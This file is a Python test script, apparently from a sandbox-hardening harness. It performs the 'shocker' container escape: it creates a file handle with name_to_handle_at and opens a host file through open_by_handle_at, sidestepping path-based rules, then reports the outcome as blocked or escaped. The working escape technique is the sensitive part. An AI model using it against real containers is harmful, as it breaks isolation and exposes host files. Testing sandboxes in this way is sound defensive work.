"""The "shocker" escape: open a host file by its file handle through any mount of the same
filesystem, bypassing every path-based rule. The handle is public knowledge (it can be brute
forced); the harness computes it with `--make-handle PATH`.

usage: open_by_handle.py HANDLE_HEX MOUNT_DIR
       open_by_handle.py --make-handle PATH
"""
import ctypes
import os
import sys

from _common import blocked, done, errname, escaped, syscall

AT_FDCWD = -100
MAX_HANDLE_SZ = 128


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * MAX_HANDLE_SZ)]


if sys.argv[1] == "--make-handle":
    handle = FileHandle(handle_bytes=MAX_HANDLE_SZ)
    mount_id = ctypes.c_int()
    result, err = syscall("name_to_handle_at", AT_FDCWD, ctypes.c_char_p(sys.argv[2].encode()), ctypes.byref(handle), ctypes.byref(mount_id), 0)
    if result < 0:
        sys.exit(f"name_to_handle_at: {errname(err)}")
    print(f"{handle.handle_type:08x}" + bytes(handle.f_handle[: handle.handle_bytes]).hex())
    sys.exit(0)

text, mount_dir = sys.argv[1], sys.argv[2]
raw = bytes.fromhex(text[8:])
handle = FileHandle(handle_bytes=len(raw), handle_type=int(text[:8], 16))
ctypes.memmove(handle.f_handle, raw, len(raw))
try:
    mount_fd = os.open(mount_dir, os.O_RDONLY | os.O_DIRECTORY)
except OSError as e:
    blocked(f"{mount_dir}: {errname(e.errno)}")
    done()
fd, err = syscall("open_by_handle_at", mount_fd, ctypes.byref(handle), os.O_RDONLY)
if fd < 0:
    blocked(f"open_by_handle_at: {errname(err)}")
else:
    escaped(f"opened by handle: {os.read(fd, 4096).decode(errors='replace')!r}")
done()
